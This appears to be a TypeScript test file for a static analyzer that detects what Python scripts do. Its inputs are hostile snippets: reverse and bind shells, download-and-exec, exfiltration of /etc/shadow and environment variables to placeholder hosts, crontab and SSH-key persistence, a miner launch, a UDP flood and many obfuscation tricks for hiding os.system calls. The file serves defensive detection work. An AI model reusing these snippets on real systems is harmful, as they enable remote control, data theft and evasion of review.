import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import { effectLines, nestedLines, readingOf } from '../../../testing/reading-of.ts';
import type { Reading, ReadingInput } from '../../language.ts';
import { known, render } from '../../value.ts';
import { python } from './python.ts';

beforeAll(async () => {
  useGrammarFiles();
  await python.prepare();
});

function read(text: string, more: Partial<ReadingInput> = {}): Reading {
  return readingOf(python, 'main.py', text, more);
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');

describe('names and values', () => {
  const shellCases: readonly (readonly [string, string])[] = [
    ['import os\nos.system("id")', 'id'],
    ['from os import system as s\ns("id")', 'id'],
    ['import os as o\no.popen("id")', 'id'],
    ['import os\nos.system("x/y/id".rsplit("/", 1)[1])', 'id'],
    ['import os\nos.system("aidaa".replace("a", "", 1).replace("a", ""))', 'id'],
    ['from os import system\nclass A:\n    def system(self): pass\n    def go(self): system("id")\n', 'id'],
    ['class A:\n    @staticmethod\n    def f(c):\n        import os\n        os.system(c)\nA.f("id")', 'id'],
    ['class A:\n    @classmethod\n    def f(cls, c):\n        import os\n        os.system(c)\nA().f("id")', 'id'],
    ['import os\ndef f(*args, c="x", **kw):\n    os.system(c + kw["d"])\nf(1, 2, c="i", d="d")', 'id'],
    ['import os\nfor k in {"id": 1}:\n    os.system(k)', 'id'],
    ['import os\nmatch 2:\n    case 1: x = "no"\n    case _: x = "id"\nos.system(x)', 'id'],
    ['exec("os.system(\'id\')") or __import__("os").system("id")', 'id'],
    ['import codecs, os\nos.system(codecs.getdecoder("hex")("6964")[0].decode())', 'id'],
    ['__import__("os").system("id")', 'id'],
    ['getattr(__import__("o"+"s"), "sys"+"tem")("id")', 'id'],
    ['import importlib\nimportlib.import_module("os").system("id")', 'id'],
    ['import sys, os\nsys.modules["os"].system("id")', 'id'],
    ['import os\nos.__dict__["system"]("id")', 'id'],
    ['import os\nvars(os)["sy" "stem"]("id")', 'id'],
    ['__builtins__.__import__("os").system("id")', 'id'],
    ['globals()["__builtins__"].__import__("os").system("id")', 'id'],
    ['import os\nf = os.system\nf("id")', 'id'],
    ['from os import *\nsystem("id")', 'id'],
    ['import subprocess\nsubprocess.call("id", shell=True)', 'id'],
    ['import subprocess as sp\nsp.Popen("id; ls", shell=True, stdout=sp.PIPE)', 'id; ls'],
    ['import commands\ncommands.getoutput("id")', 'id'],
    ['import os\nos.system("a" "b" + "c")', 'abc'],
    ['import os\nos.system("%s -x %d" % ("ls", 5))', 'ls -x 5'],
    ['import os\nos.system("{} {name}".format("ls", name="-l"))', 'ls -l'],
    ['import os\nx = "ls"\nos.system(f"{x} -l {{a}}")', 'ls -l {a}'],
    ['import os\nos.system(" ".join(["ls", "-l"]))', 'ls -l'],
    ['import os\nos.system("l-s".replace("-", ""))', 'ls'],
    ['import os\nos.system("sl"[::-1])', 'ls'],
    ['import os\nos.system("xxlsxx"[2:4])', 'ls'],
    ['import os\nos.system("xxlsxx"[-4:-2])', 'ls'],
    ['import os\nos.system("LS".lower())', 'ls'],
    ['import os\nos.system(chr(108) + chr(115))', 'ls'],
    ['import os\nos.system("".join(map(chr, [108, 115])))', 'ls'],
    ['import os\nos.system("".join([chr(c) for c in [108, 115]]))', 'ls'],
    ['import os\nos.system("".join(chr(ord(c) - 1) for c in "mt"))', 'ls'],
    ['import os\nos.system("".join(chr(ord(c) ^ 1) for c in "mr"))', 'ls'],
    ['import os\ns = ""\nfor c in [108, 115]:\n    s += chr(c)\nos.system(s)', 'ls'],
    ['import os\ns = ""\ni = 0\nwhile i < 2:\n    s = s + "ls"[i]\n    i += 1\nos.system(s)', 'ls'],
    ['import os\nos.system(bytes([108, 115]).decode())', 'ls'],
    ['import os\nos.system(bytearray.fromhex("6c73").decode("ascii"))', 'ls'],
    ['import os\nos.system("\\x6c\\163")', 'ls'],
    ['import os\nos.system("6c73".decode("hex"))', 'ls'],
    ['import os, codecs\nos.system(codecs.decode("yf", "rot13"))', 'ls'],
    ['import os, binascii\nos.system(binascii.unhexlify("6c73"))', 'ls'],
    [`import os, base64\nos.system(base64.b64decode("${b64('ls')}").decode())`, 'ls'],
    ['import os, base64\nos.system(base64.b32decode("NRZQ====").decode())', 'ls'],
    ['import os, base64\nos.system(base64.b85decode("Y;y").decode())', 'ls'],
    ['import os, base64\nos.system(base64.a85decode(b"Ci]").decode())', 'ls'],
    ['import os\nd = {"a": "ls"}\nos.system(d["a"])', 'ls'],
    ['import os\nd = dict(a="ls")\nos.system(d.get("a"))', 'ls'],
    ['import os\na, b = "l", "s"\nos.system(a + b)', 'ls'],
    ['import os\ndef f(a, b="s"):\n    return a + b\nos.system(f("l"))', 'ls'],
    ['import os\nos.system((lambda a, b: a + b)("l", "s"))', 'ls'],
    ['import os\nclass A:\n    x = "l"\n    def go(self, y):\n        os.system(self.x + y)\nA().go("s")', 'ls'],
    [
      'import os\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nA("ls").go()',
      'ls',
    ],
    ['import os\nif __name__ == "__main__":\n    os.system("ls")', 'ls'],
    ['import os\ntry:\n    x = 1\nexcept:\n    os.system("ls")', 'ls'],
    ['import os\ndef never():\n    os.system("ls")', 'ls'],
    ['import os, threading\nthreading.Thread(target=lambda: os.system("ls")).start()', 'ls'],
    ['import os\nos.system("ls".translate(str.maketrans("ls", "ls")))', 'ls'],
    ['import os\nt = {108: "l", 115: "s"}\nos.system("ls".translate(t))', 'ls'],
    ['print "hello"\nimport os\nos.system("ls")', 'ls'],
    ['import os\nos.system(`1` + "x")\nos.system("ls")', 'ls'],
    ['import os\nos.system(str(b"ls", "utf-8"))', 'ls'],
    ['import os\nos.system(eval("\'l\'") or "ls")', 'ls'],
    ['from functools import reduce\nimport os\nos.system(reduce(lambda a, b: a + b, ["l", "s"]))', 'ls'],
    ['import os\nx: str = "ls"\nos.system(x)', 'ls'],
    ['import os\nwith open("/x") as f:\n    os.system("ls")', 'ls'],
    ['import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("ls")', 'ls'],
    ['import os\nos.environ.get("X")\nos.system(os.environ["CODE"])', 'ls'],
    ['import os, sys\nos.system(sys.argv[1])', 'ls'],
  ];
  test.each(shellCases)('%s', (text, expected) => {
    const reading = read(text, { env: new Map([['CODE', known('ls')]]), args: [known('/app/main.py'), known('ls')] });
    expect(nestedLines(reading)).toContain(`shell: ${expected}`);
  });

  test('both branches of an unknown condition', () => {
    const reading = read(
      'import os, platform\nif platform.system() == "Linux":\n    c = "a b"\nelse:\n    c = "c d"\nos.system(c)',
    );
    expect(nestedLines(reading)).toEqual(['shell: a b', 'shell: c d']);
  });

  test('what is not known stays a hole', () => {
    const reading = read('import os\nos.system("ping " + input())');
    expect(nestedLines(reading)).toEqual([`shell: ping \${UNKNOWN_1}`]);
    expect(reading.commands[0]?.argv.map(render)).toEqual(['sh', '-c', 'ping ‹input()›']);
  });
});

describe('programs', () => {
  test.each<readonly [string, string]>([
    ['import subprocess\nsubprocess.run(["ls", "-l"])', 'ls -l'],
    ['import os\nos.execv("/bin/ls", ["ls", "-l"])', '/bin/ls -l'],
    ['import os\nos.execlp("ls", "ls", "-l")', 'ls -l'],
    [
      'import subprocess\nargs = ["./xmrig"]\nargs.append("-o")\nargs += ["pool.invalid:3333"]\nsubprocess.Popen(args)',
      './xmrig -o pool.invalid:3333',
    ],
    ['import subprocess, shlex\nsubprocess.call(shlex.split("ls -l \'a b\'"))', 'ls -l a b'],
    ['import pty\npty.spawn("/bin/bash")', '/bin/bash'],
  ])('%s', (text, expected) => {
    expect(read(text).commands.map((command) => command.argv.map(render).join(' '))).toContain(expected);
  });

  test('wrappers are left to the shell reader', () => {
    expect(nestedLines(read('import subprocess\nsubprocess.Popen(["nohup", "./x", "a b"])'))).toEqual([
      "shell: nohup ./x 'a b'",
    ]);
  });
});

describe('effects', () => {
  test.each<readonly [string, string, readonly string[]]>([
    [
      'reverse shell by dup2',
      'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.17",1496));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
      [
        'connect to={host=192.0.2.17 port=1496 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
      ],
    ],
    [
      'pty over a socket',
      'import socket,os,pty\ns=socket.socket()\ns.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn("/bin/sh")',
      [
        'connect to={host=‹$RHOST› port=‹int()› protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
      ],
    ],
    [
      'socket as stdio of a process',
      'import socket,subprocess\ns=socket.create_connection(("c2.invalid",443))\nsubprocess.Popen(["/bin/bash"],stdin=s,stdout=s,stderr=s)',
      ['connect to={host=c2.invalid port=443 protocol=tcp} shell={program=/bin/bash how=stdin=socket}'],
    ],
    [
      'commands out of a socket',
      'import socket,subprocess\ns=socket.socket()\ns.connect(("c2.invalid",443))\nwhile True:\n    c=s.recv(1024).decode()\n    o=subprocess.check_output(c,shell=True)\n    s.send(o)',
      ['connect to={host=c2.invalid port=443 protocol=tcp} shell={program=sh how=runs what it receives}'],
    ],
    [
      'bind shell',
      'import socket,os,subprocess\ns=socket.socket()\ns.bind(("0.0.0.0",4444))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])',
      [
        'listen at={host=0.0.0.0 port=4444 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
      ],
    ],
    [
      'download and exec',
      'import urllib2\nexec(urllib2.urlopen("http://203.0.113.9/t").read())',
      [
        'fetch url=http://203.0.113.9/t tool=python urllib',
        'run what=‹read› interpreter=python from=fetched fetched=0',
      ],
    ],
    [
      'requests and exec',
      'import requests\nr = requests.get("http://203.0.113.9/t")\nexec(r.text)',
      [
        'fetch url=http://203.0.113.9/t tool=python requests get',
        'run what=‹text› interpreter=python from=fetched fetched=0',
      ],
    ],
    [
      'download to a file',
      'import urllib.request as u\nd = u.urlopen("http://203.0.113.9/m").read()\nopen("/tmp/m", "wb").write(d)',
      ['fetch url=http://203.0.113.9/m tool=python urllib to=/tmp/m', 'write path=/tmp/m'],
    ],
    [
      'urlretrieve',
      'from urllib import urlretrieve\nurlretrieve("http://203.0.113.9/m", "/tmp/m")',
      ['fetch url=http://203.0.113.9/m to=/tmp/m tool=python urllib'],
    ],
    [
      'sending a file away',
      'import requests\nrequests.post("http://203.0.113.9/u", data=open("/etc/shadow").read())',
      ['exfiltrate to=http://203.0.113.9/u what=‹file /etc/shadow›'],
    ],
    [
      'sending the environment away',
      'import os, json, urllib.request\nurllib.request.urlopen("http://203.0.113.9/u", json.dumps(dict(os.environ)).encode())',
      ['exfiltrate to=http://203.0.113.9/u what=‹encode›'],
    ],
    [
      'a constant form is a request',
      'import requests\nrequests.post("http://api.example/x", json={"a": 1})',
      ['fetch url=http://api.example/x tool=python requests post'],
    ],
    [
      'append to the crontab of a host',
      'f = open("/mnt/etc/crontab", "a")\nf.write("* * * * * root id\\n")',
      ['append path=/mnt/etc/crontab content=* * * * * root id\n'],
    ],
    [
      'pathlib',
      'from pathlib import Path\n(Path("/root") / ".ssh" / "authorized_keys").write_text("ssh-rsa X")',
      ['write path=/root/.ssh/authorized_keys content=ssh-rsa X'],
    ],
    [
      'chmod, remove, kill',
      'import os, shutil\nos.chmod("/tmp/x", 0o755)\nos.remove("/a")\nos.kill(7, 9)',
      ['chmod path=/tmp/x mode=0755', 'delete path=/a', 'kill pattern=7'],
    ],
    [
      'a flood',
      'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b"x" * 9, ("192.0.2.1", 53))',
      ['flood tool=python socket target=192.0.2.1'],
    ],
    [
      'a heartbeat',
      'import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b"x", ("192.0.2.1", 53))\n    time.sleep(9)',
      [],
    ],
    [
      'a program in memory',
      'import os, urllib.request\nd = urllib.request.urlopen("http://192.0.2.1/e").read()\nf = os.memfd_create("", 0)\nos.write(f, d)\nos.execv("/proc/self/fd/%d" % f, ["x"])',
      [
        'fetch url=http://192.0.2.1/e tool=python urllib to=‹file in memory›',
        'write path=‹file in memory›',
        'run what=/proc/self/fd/‹file in memory› from=fetched fetched=0',
      ],
    ],
    [
      'preload by environment',
      'import os\nos.environ["LD_PRELOAD"] = "/lib/h.so"',
      ['preload library=/lib/h.so how=environment'],
    ],
    [
      'http.client',
      'import http.client\nc = http.client.HTTPConnection("c2.invalid", 8080)\nc.request("GET", "/x")',
      ['fetch url=http://c2.invalid:8080/x tool=python http.client GET'],
    ],
  ])('%s', (_name, text, expected) => {
    expect(effectLines(read(text))).toEqual(expected);
  });

  test('an honest server is no shell', () => {
    const reading = read(
      'import socket\ns=socket.socket()\ns.bind(("",80))\ns.listen(5)\nwhile 1:\n    c,a=s.accept()\n    c.send(b"hi")\n    c.close()',
    );
    expect(effectLines(reading)).toEqual(['listen at={host= port=80 protocol=tcp}']);
  });
});

describe('what a request decides', () => {
  test.each<readonly [string, string]>([
    [
      'Flask',
      'from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route("/x")\ndef x():\n    return os.popen(request.args.get("c")).read()\n',
    ],
    ['Flask, eval', 'import flask\ndef x():\n    exec(flask.request.form["code"])\n'],
    [
      'Django',
      'from django.http import HttpResponse\nimport subprocess\ndef view(request):\n    return HttpResponse(subprocess.check_output(request.GET["c"], shell=True))\n',
    ],
    [
      'http.server',
      'from http.server import BaseHTTPRequestHandler, HTTPServer\nimport os\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        body = self.rfile.read(int(self.headers["Content-Length"]))\n        os.system(body.decode())\nHTTPServer(("", 80), H).serve_forever()\n',
    ],
    [
      'Tornado',
      'import tornado.web, os\nclass H(tornado.web.RequestHandler):\n    def get(self):\n        self.write(os.popen(self.get_argument("c")).read())\n',
    ],
    [
      'aiohttp',
      'from aiohttp import web\nimport asyncio\nasync def handle(request):\n    p = await asyncio.create_subprocess_shell(request.query["c"])\n',
    ],
  ])('%s', (_name, text) => {
    expect(read(text).effects).toContainEqual(expect.objectContaining({ kind: 'run', from: 'request' }));
  });

  test.each<readonly [string, string]>([
    ['a number', 'from flask import request\nimport os\nos.system("kill %d" % int(request.args["pid"]))\n'],
    ['a request that is none', 'import os\ndef send(request):\n    os.system(request)\n'],
    [
      'a choice',
      'from flask import request\nimport os\nwhat = {"up": "uptime", "df": "df -h"}\nos.system(what[request.args["w"]])\n',
    ],
    [
      'a quoted word',
      'from flask import request\nimport os, shlex\nos.system("ping " + shlex.quote(request.args["h"]))\n',
    ],
  ])('not %s', (_name, text) => {
    expect(read(text).effects.filter((effect) => effect.kind === 'run' && effect.from === 'request')).toEqual([]);
  });
});

test('what may fail is tried with the next one, too', () => {
  const reading = read(
    'import socket, subprocess\nfor h in ["192.0.2.1", "192.0.2.2"]:\n    try:\n        s = socket.socket()\n        s.connect((h, 80))\n        break\n    except OSError:\n        continue\nfor c in ["one x", "two x"]:\n    try:\n        subprocess.check_output(c, shell=True)\n    except OSError:\n        continue\n    else:\n        break\n',
  );
  expect(effectLines(reading)).toEqual([
    'connect to={host=192.0.2.1 port=80 protocol=tcp}',
    'connect to={host=192.0.2.2 port=80 protocol=tcp}',
  ]);
  expect(reading.commands.map(({ argv }) => argv.map(render).join(' '))).toEqual(['sh -c one x', 'sh -c two x']);
});

describe('hidden code', () => {
  test('a chain of decoders is told outermost first', () => {
    const packed = [...deflateSync('import os; os.system("id")').toString('base64')].reverse().join('');
    const nested = read(`import zlib, base64\nexec(zlib.decompress(base64.b64decode("${packed}"[::-1])))`).nested[0];
    expect(nested?.text).toBe('import os; os.system("id")');
    expect(nested?.decoded.map((step) => step.decoder)).toEqual(['reverse', 'base64', 'zlib']);
    expect(nested?.how).toBe('eval');
  });

  test('exec(compile(…)) and exec statements', () => {
    expect(nestedLines(read('exec(compile("import os; x()", "a", "exec"))'))).toEqual(['python: import os; x()']);
    expect(nestedLines(read('exec "import os; x()"'))).toEqual(['python: import os; x()']);
  });

  test('marshal is said, not guessed', () => {
    const reading = read('import marshal, base64\nexec(marshal.loads(base64.b64decode("YWJj")))');
    expect(effectLines(reading)).toEqual(['run what=‹marshal› interpreter=python from=decoded']);
    expect(reading.nested).toEqual([]);
  });
});

test('modules beside the script are loaded', () => {
  const files = new Map([
    ['/app/worker.py', 'x = 1'],
    ['/app/pkg/__init__.py', ''],
  ]);
  const reading = read('import worker, sys\nfrom pkg import a\nimport numpy', { readFile: (path) => files.get(path) });
  expect(reading.loads.map((load) => load.path)).toEqual(['/app/worker.py', '/app/pkg/__init__.py']);
});

describe('bounds', () => {
  test.each<readonly [string, string]>([
    ['endless recursion', 'def f(x):\n    return f(x + 1)\nf(1)'],
    ['doubling text', 'x = "a"\nfor i in range(100):\n    x = x + x'],
    ['doubling list', 'x = [1]\nfor i in range(100):\n    x = x + x'],
    ['huge repetition', 'x = "a" * 10**9\ny = [0] * 10**9'],
    ['huge range', 'for i in range(10**12):\n    x = i'],
    [
      'nested loops',
      `${Array.from({ length: 12 }, (_each, at) => `${' '.repeat(at)}for i${at} in range(1000):`).join('\n')}\n${' '.repeat(12)}pass`,
    ],
    ['deep expression', `x = ${'('.repeat(5_000)}1${')'.repeat(5_000)}`],
    [
      'many branches',
      Array.from({ length: 2_000 }, (_each, at) => `if a${at}:\n    x = ${at}\nelse:\n    x = y`).join('\n'),
    ],
    ['replace bomb', 'x = "a" * 1000\nfor i in range(50):\n    x = x.replace("a", "a" * 1000)'],
    ['self-append', 'x = []\nfor i in range(1000):\n    x.append(x)\ny = str(x)'],
    ['mutual recursion', 'def a(): b(); b()\ndef b(): a(); a()\na()'],
    ['a while that changes nothing', 'x = [1]\nwhile x:\n    y = 1'],
    [
      'calls that fan out',
      `${Array.from({ length: 10 }, (_each, at) => `def f${at}():\n    ${`f${at + 1}(); `.repeat(8)}`).join('\n')}\nf0()`,
    ],
    ['growing while', 'x = [1]\nwhile x:\n    x.append(1)'],
    ['a list behind itself', 'x = [1]\nfor i in range(100):\n    x.extend(x)'],
    ['a comprehension that feeds itself', 'x = [1]\ny = [x.append(i) for i in x]'],
    ['copies of a long list', 'x = range(200000)\nfor i in x:\n    y = list(x)\n    z = x[:]\n    i in x'],
    ['a long chain of elif', `if a:\n    x = 1\n${'elif b:\n    x = 2\n'.repeat(3_000)}`],
  ])('%s ends', (_name, text) => {
    const started = performance.now();
    read(text);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  test('a used-up budget is said', () => {
    const reading = read('x = 1\n'.repeat(1_000), { budget: { steps: 100, decodedBytes: 100, commands: 10 } });
    expect(reading.truncated).toBe(true);
    expect(
      read(`${'import os\nos.system("a b")\n'.repeat(5)}os.system("c d")`, {
        budget: { steps: 1_000, decodedBytes: 0, commands: 1 },
      }).truncated,
    ).toBe(true);
  });

  test('a long chain of elif is read to its end', () => {
    const chain = `if a == 0:\n    x = 0\n${Array.from({ length: 400 }, (_each, at) => `elif a == ${at}:\n    x = ${at}\n`).join('')}`;
    const reading = read(`import os\n${chain}else:\n    os.system("id")\n`);
    expect(reading.truncated).toBe(false);
    expect(reading.commands).toHaveLength(1);
  });

  test('decoded bytes are counted', () => {
    const budget = { steps: 10_000, decodedBytes: 10, commands: 10 };
    const reading = read(`import base64\nexec(base64.b64decode("${b64('import os; os.system("too long")')}"))`, {
      budget,
    });
    expect(reading.nested).toEqual([]);
  });

  test('any text is read without throwing, twice the same', () => {
    const pieces = [
      'import os',
      'os.system(',
      '"a"',
      ')',
      '\n',
      '  ',
      'def f(x):',
      'for i in ',
      'exec',
      '[',
      ']',
      '{',
      '}',
      ':',
      '=',
      '%',
      'x',
      'lambda x: x',
      '\\',
      "'",
      '"""',
      'f"{',
      'class A:',
      '.',
      ',',
      '*',
      '**',
      '~',
      '@',
      'yield',
      'await',
      'chr(1e999)',
      '-1',
      '[::0]',
    ];
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 40 }), (parts) => {
        const text = parts.join(' ');
        expect(JSON.stringify(read(text))).toBe(JSON.stringify(read(text)));
      }),
      { numRuns: 300 },
    );
  });
});

describe('code that others call', () => {
  test.each([
    'import threading\nthreading.Thread(target=exec, args=("import os; os.system(\'ls -l\')", globals())).start()',
    'import os, threading\nt = threading.Timer(5, os.system, ["ls -l"])\nt.start()',
    'import os, _thread\n_thread.start_new_thread(os.system, ("ls -l",))',
    'import os\nfrom multiprocessing import Process\ndef work(name):\n    os.system("ls " + name)\nProcess(target=work, args=("-l",)).start()',
    'import os, atexit\natexit.register(os.system, "ls -l")',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.system(\'ls -l\')"])',
  ])('%s', (code) => {
    const reading = read(code);
    const texts = [
      ...reading.nested.map(({ text }) => text),
      ...reading.commands.map(({ argv }) => argv.map(render).join(' ')),
    ];
    expect(
      texts.some((text) => text.includes('ls -l')),
      texts.join('\n'),
    ).toBe(true);
  });
  test('a folder removed with all in it is the command it stands for', () => {
    const { commands } = read(
      'import shutil, os\nfor n in os.listdir("/host"):\n    shutil.rmtree(os.path.join("/host", n))',
    );
    expect(commands.map(({ argv }) => argv.map(render).join(' '))).toEqual([
      expect.stringMatching(/^rm -rf \/host\/‹/),
    ]);
  });
});
